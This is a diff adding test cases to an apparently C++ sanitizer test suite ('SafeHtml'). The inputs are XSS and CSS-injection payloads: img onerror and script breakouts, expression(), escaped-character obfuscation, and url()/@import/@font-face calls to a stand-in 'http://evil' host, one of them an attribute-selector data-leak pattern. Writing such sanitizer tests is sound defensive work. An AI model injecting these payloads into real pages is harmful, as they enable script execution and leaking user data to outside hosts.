@@ -70,7 +70,21 @@ INSTANTIATE_TEST_SUITE_P(
         "<title><img src=x onerror=alert(1)></title>",
         "<select><template><img src=x onerror=alert(1)></template></select>",
         "<textarea><img src=x onerror=alert(1)></textarea>", "<frameset><frame src=\"http://evil\"></frameset>",
-        "<!--[if IE]><script>alert(1)</script><![endif]-->"));
+        "<!--[if IE]><script>alert(1)</script><![endif]-->",
+        "<style>p{background:url(http://evil/x.png)}</style><p>x</p>",
+        "<style>p{width:expression(alert(1))}</style><p>x",
+        "<style>p{position:fixed;top:0;left:0;width:100%;height:100%}</style><p>x",
+        "<style>p{color:red}</style></style><script>alert(1)</script><p>x",
+        "<style>p{color:red\"><script>alert(1)</script>}</style><p>x",
+        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style><p>x",
+        "<style>@import url(http://evil/x.css);p{color:red}</style><p>x",
+        "<style>@font-face{font-family:x;src:url(http://evil/x)}p{font-family:x}</style><p>x",
+        "<style>input[value^=a]{background:url(http://evil/a)}</style><p class='\" onclick=alert(1)'>x",
+        "<style>.\\22 onclick{color:red}</style><p class='\"onclick=alert(1) x='>x",
+        "<style>p{behavior:url(x.htc);-moz-binding:url(http://evil/x)}</style><p>x",
+        "<style>p{color:r\\65 d;background:u\\72l(http://evil/x)}</style><p>x",
+        "<style "
+        "media=print>p{position:absolute}</style><svg><style>p{background:url(http://evil/)}</style></svg><p>x"));
 
 TEST(SafeHtml, values_cannot_leave_their_attribute) {
   const std::string out = html_of("<p title='\"><script>alert(1)</script>'>x</p>");
